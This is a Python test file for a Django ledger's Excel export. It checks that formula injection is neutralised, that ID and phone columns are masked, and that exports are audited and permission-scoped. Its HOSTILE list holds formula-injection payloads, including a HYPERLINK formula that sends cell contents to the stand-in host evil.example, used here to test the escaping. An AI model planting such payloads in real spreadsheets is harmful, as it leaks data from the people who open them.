"""Exports: formula injection neutralised, sensitive columns masked, audited, and re-importable."""

import io
from datetime import date

import pytest
from openpyxl import load_workbook

from sifa.core.models import AuditEvent
from sifa.core.models.audit import AuditEventType
from sifa.ledger import registry
from sifa.ledger.exporter import export_kind, export_response, write_export
from sifa.ledger.importer import import_file

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "@SUM(1)", "-1+1", "+1", "\tcmd", "\r=1", "=1+1"]


def load(data: bytes):
    return load_workbook(io.BytesIO(data))


@pytest.fixture
def people(people_kind):
    kind, store = people_kind
    store.objects.extend([
        {"name": text, "id_number": "341321199001011237", "mobile": "13812341234", "registered": date(2024, 3, 1),
         "key_person": True, "note": text}
        for text in HOSTILE
    ])
    return kind


def test_formula_injection_is_neutralised(people, tree, office_user):
    out = io.BytesIO()
    write_export(people, registry.get(people.code).export_queryset(office_user, {"org": tree["office_a"]}), out)
    ws = load(out.getvalue())["人员名册"]
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert len(cells) > len(HOSTILE) * 5
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    names = [ws.cell(row=r, column=1).value for r in range(2, len(HOSTILE) + 2)]
    assert names[0] == "'" + HOSTILE[0] and names[2] == "'-1+1" and names[3] == "'+1"
    assert names[4] == "'\tcmd"


def test_sensitive_columns_are_masked(people, tree, office_user):
    out = io.BytesIO()
    export_kind(people, office_user, tree["office_a"], out)
    ws = load(out.getvalue())["人员名册"]
    header = [c.value for c in ws[1]]
    assert header == ["姓名", "公民身份号码", "手机号码", "登记日期", "是否重点", "备注"]
    row = [c.value for c in ws[2]]
    assert row[1] == "3413**********1237" and row[2] == "138****1234"
    assert row[3].date() == date(2024, 3, 1) and row[4] == "是"
    text = out.getvalue()
    assert b"341321199001011237" not in text and b"13812341234" not in text


def test_export_is_audited(people, tree, office_user):
    export_kind(people, office_user, tree["office_a"], io.BytesIO())
    event = AuditEvent.objects.get(event=AuditEventType.EXPORT)
    assert event.username == office_user.username and event.object_id == tree["office_a"].code
    assert event.after["rows"] == len(HOSTILE) and event.after["masked"] == ["公民身份号码", "手机号码"]


def test_export_response_helper(people, tree, office_user):
    kind = registry.get(people.code)
    response = export_response(kind, kind.export_queryset(office_user, {"org": tree["office_a"]}), office_user)
    body = b"".join(response.streaming_content)
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "attachment" in response["Content-Disposition"]
    assert load(body)["人员名册"].max_row == len(HOSTILE) + 1
    assert AuditEvent.objects.filter(event=AuditEventType.EXPORT).count() == 1
    response.file_to_stream.close()   # the anonymous temporary file goes with it


def test_export_then_import_round_trip(tree, bureau_user, sysadmin):
    """An export of org units is a valid import file (after changing the codes)."""
    orgs = registry.get("orgs")
    out = io.BytesIO()
    assert export_kind(orgs, sysadmin, tree["office_a"], out) == 1
    def recode(wb):
        ws = wb["机构"]
        ws["A2"] = "341321100-NEW"
        ws["E2"] = "341321100-SFS"

    from .helpers import edit

    result = import_file(orgs, edit(out, recode), org=tree["office_a"], user=sysadmin)
    assert result.ok, result.errors


def test_scope_export_outside_subtree_is_refused(tree, office_admin):
    from django.core.exceptions import PermissionDenied

    with pytest.raises(PermissionDenied):
        export_kind(registry.get("orgs"), office_admin, tree["bureau"], io.BytesIO())
    assert not AuditEvent.objects.filter(event=AuditEventType.EXPORT).exists()


def test_kind_capability_is_required(tree, office_user):
    from django.core.exceptions import PermissionDenied

    with pytest.raises(PermissionDenied):
        export_kind(registry.get("orgs"), office_user, tree["office_a"], io.BytesIO())
